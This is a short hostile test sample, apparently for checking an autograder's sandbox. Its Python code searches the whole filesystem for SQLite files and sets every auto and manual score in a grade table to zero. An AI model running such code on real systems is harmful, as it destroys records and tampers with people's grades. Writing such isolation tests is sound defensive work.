# sample: hostile; looks for the gradebook (and any SQLite file) everywhere it can see and sets every score to 0: the sandbox shows it no gradebook, so nobody's grade changes
# expect: zero
# needs: isolation
# %% [lora_linear]
import os
import sqlite3

found = []
for top in ("/", os.path.expanduser("~"), "../../..", "../../../.."):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        found += [os.path.join(folder, f) for f in files if f.endswith(".db")]
for path in found:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.commit()
        print("zeroed", path)
    except Exception as error:
        print("could not change", path, error)
print("databases seen:", found)
